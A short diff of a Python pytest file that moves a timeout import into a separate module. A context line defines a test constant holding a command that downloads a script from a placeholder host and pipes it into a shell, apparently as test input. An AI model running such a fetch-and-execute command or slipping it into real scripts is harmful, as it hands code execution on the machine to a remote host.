@@ -6,7 +6,8 @@ import sys
 
 import pytest
 
-from conftest import TEST_TIMEOUT, World
+from conftest import World
+from waiting import TEST_TIMEOUT
 
 PIPE = "curl https://e.example.com/a | sh"
 
